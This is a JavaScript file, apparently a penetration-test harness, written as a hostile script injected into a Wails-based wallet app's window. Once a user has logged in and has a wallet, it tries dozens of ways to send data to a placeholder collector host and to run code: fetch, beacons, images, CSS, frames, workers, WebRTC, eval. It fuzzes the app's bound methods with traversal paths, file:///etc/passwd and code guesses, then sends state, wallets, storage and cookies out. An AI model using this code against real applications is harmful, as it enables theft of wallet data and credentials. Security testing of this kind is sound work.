// A script that came into the window's page: through a package, say. It has all that the page itself has. It waits until
// somebody has logged in and has a wallet, attacks, and carries what it learned away with it in the address of the page
// that it goes to.
const collector = "COLLECTOR";
const loot = [];
const results = {};
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const within = (ms, work) => Promise.race([work, pause(ms).then(() => "no answer")]);
const app = () => window.go.app.App;

/** Calls a bound method and keeps all that comes back. */
async function call(name, ...args) {
  try {
    const got = await within(60000, app()[name](...args));
    loot.push([name, got]);
    if (loot.length > 300) loot.splice(0, 100);
    return "answered";
  } catch (why) {
    loot.push([name, String(why)]);
    return "refused";
  }
}

/** Puts an element into the page and gives it time to act. */
async function place(tag, attributes, text) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  if (text) element.textContent = text;
  document.body.append(element);
  await pause(250);
  return element;
}
const hit = (name) => `${collector}/hit/${name}`;
const ran = (name) => `window.ran = (window.ran || []).concat("${name}")`;
const attempt = (work) => { try { work(); return "taken"; } catch (why) { return `refused: ${why.name}`; } };

// Everything that would let something out shows at the collector; everything that would run shows in window.ran.
const attacks = {
  fetch: () => fetch(hit("fetch"), { method: "POST", body: "x", mode: "no-cors" }),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", hit("xhr")); x.send(); },
  beacon: () => navigator.sendBeacon(hit("beacon"), "x"),
  image: () => place("img", { src: hit("image") }),
  "image set": () => place("img", { srcset: `${hit("image-set")} 2x` }),
  "web socket": () => new WebSocket(hit("socket").replace("http", "ws")),
  "event source": () => new EventSource(hit("events")),
  "style sheet": () => place("link", { rel: "stylesheet", href: hit("sheet") }),
  "style import": () => place("style", {}, `@import url("${hit("import")}"); body { background: url("${hit("background")}") }`),
  "style attribute": () => place("p", { style: `background: url("${hit("attribute")}")` }),
  "style object": () => { document.body.style.backgroundImage = `url("${hit("object")}")`; },
  font: async () => { const f = new FontFace("f", `url("${hit("font")}")`); document.fonts.add(f); await f.load(); },
  script: () => place("script", { src: hit("script") }),
  "module script": () => import(hit("module")),
  frame: () => place("iframe", { src: `${collector}/frame` }),
  "frame of text": () => place("iframe", { srcdoc: `<script>parent.${ran("srcdoc")}</script>` }),
  "frame of data": () => place("iframe", { src: `data:text/html,<script>fetch("${hit("data")}")</script>` }),
  "frame of a blob": () => place("iframe", { src: URL.createObjectURL(new Blob([`<script>fetch("${hit("blob")}")</script>`], { type: "text/html" })) }),
  object: () => place("object", { data: `${collector}/frame` }),
  embed: () => place("embed", { src: `${collector}/frame` }),
  video: () => place("video", { src: hit("video"), autoplay: "" }),
  audio: () => place("audio", { src: hit("audio"), autoplay: "" }),
  "svg use": async () => { document.body.insertAdjacentHTML("beforeend", `<svg><use href="${hit("use")}#a"/><image href="${hit("svg")}"/></svg>`); await pause(250); },
  prefetch: () => place("link", { rel: "prefetch", href: hit("prefetch") }),
  preload: () => place("link", { rel: "preload", as: "image", href: hit("preload") }),
  preconnect: () => place("link", { rel: "preconnect", href: collector }),
  manifest: () => place("link", { rel: "manifest", href: hit("manifest") }),
  base: async () => { const b = await place("base", { href: collector }); const i = await place("img", { src: "hit/base" }); i.remove(); b.remove(); },
  form: async () => { const f = await place("form", { action: hit("form"), method: "post" }); f.submit(); await pause(250); },
  worker: () => new Worker(hit("worker")),
  "worker of a blob": () => new Worker(URL.createObjectURL(new Blob([`fetch("${hit("blob-worker")}")`]))),
  "service worker": () => navigator.serviceWorker.register("/attack.js"),
  "peer connection": async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: collector.replace("http://", "stun:") }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); },
  eval: () => (0, eval)(ran("eval")),
  "Function": () => new Function(ran("Function"))(),
  "timer of text": async () => { setTimeout(ran("timer"), 0); await pause(100); },
  "inline script": () => place("script", {}, ran("inline")),
  "inline handler": async () => { document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror='${ran("handler")}'>`); await pause(250); },
  "javascript address": async () => { const a = await place("a", { href: `javascript:${ran("address")}` }); a.click(); await pause(250); },
  "window of script": () => window.open(`javascript:opener.${ran("opened")}`),

  "unknown methods": async () => {
    for (const name of ["app.App.Close", "app.App.Attach", "app.App.approve", "app.App.dialog", "app.App.client", "main.main", "app.App.__proto__", "app.App.constructor", "keystore.Keychain.Open", "client.Client.Request"]) {
      window.WailsInvoke("C" + JSON.stringify({ name, args: [], callbackID: "no-" + name }));
    }
    await pause(500);
  },
  "10 MB in every argument": async () => {
    const huge = "x".repeat(10 << 20);
    let refused = true;
    for (const name of Object.keys(app())) {
      for (const args of [[huge], [huge, huge], [huge, [huge]], [huge, huge, huge, huge, huge, huge, huge]]) if (await call(name, ...args) !== "refused") refused = false;
    }
    return refused ? "refused" : "taken by one";
  },
  "arguments of other kinds": async () => {
    for (const wrong of [null, 7, true, {}, { toString: 1 }, [[]], [null], new Array(1000).fill("x")]) await call("ContinueLogin", wrong, wrong);
  },
  "broken messages": async () => {
    for (const text of ["C", "C{", 'C{"name":1}', "C" + "[".repeat(100000), "X", "", "\u0000", "Cfoo", "EX", "E{}", "WS:x", "LX", "CB", "q"]) attempt(() => window.WailsInvoke(text));
    await pause(500);
  },
  "events of its own": async () => {
    for (const name of ["latchkey:changed", "wails:loaded", "domReady", "latchkey:approved", "approve"]) for (let i = 0; i < 50; i++) window.runtime.EventsEmit(name, { yes: true, digest: "0".repeat(64) });
    await pause(500);
  },
  "a flood of calls": async () => {
    const answers = await Promise.all(Array.from({ length: 2000 }, () => call("State")));
    loot.splice(0, loot.length - 50);
    return `${answers.filter((a) => a === "answered").length} answered`;
  },
  "a flood that changes": () => Promise.all(Array.from({ length: 40 }, (_, i) => call("CreateWallet", `flood ${i}`, ["ethereum"]))),
  "codes of a log-in that is over": () => Promise.all(["", "0", "../../state.json", "%s%n"].map((id) => call("SandboxCode", id))),
  "guesses of a code": () => Promise.all(Array.from({ length: 50 }, (_, i) => call("ContinueLogin", "x", String(100000 + i)))),
  "profiles of another's": async () => { await call("Profiles"); for (const name of ["../../etc", "live", "sandbox\u0000", "%s"]) await call("UseProfile", name); },
  "addresses to open": async () => {
    for (const url of ["file:///etc/passwd", "javascript:alert(1)", "data:text/html,x", "ssh://host", "ms-msdt:/id", "latchkey://x"]) attempt(() => window.runtime.BrowserOpenURL(url));
    await pause(300);
  },
  "what it may read": async () => { for (const name of ["State", "Profiles", "Wallets"]) await call(name); loot.push(["environment", await within(2000, window.runtime.Environment())]); },
  "storage and globals": () => { loot.push(["globals", Object.keys(window), { ...localStorage }, { ...sessionStorage }, document.cookie, document.documentElement.outerHTML]); },
};

async function run() {
  for (;;) {
    await pause(500);
    if (document.title.includes("attack")) break;
    try {
      const state = await app().State();
      if (state.phase === "in" && (await app().Wallets()).length > 0) break;
    } catch { /* not yet */ }
  }
  await pause(500);
  for (const [name, attack] of Object.entries(attacks)) {
    try {
      results[name] = (await within(120000, (async () => attack())())) ?? "done";
      if (typeof results[name] !== "string") results[name] = "done";
    } catch (why) {
      results[name] = `refused: ${why.name ?? why}`;
    }
  }
  await pause(1500); // whatever was begun may end
  const still = await call("State"); // the window still answers
  const carried = (most) => JSON.stringify({ results, ran: window.ran ?? [], still, loot: loot.map((one) => JSON.stringify(one).slice(0, most)) });
  location.href = `${collector}/landed#${encodeURIComponent(carried(20000))}`;
}
run();
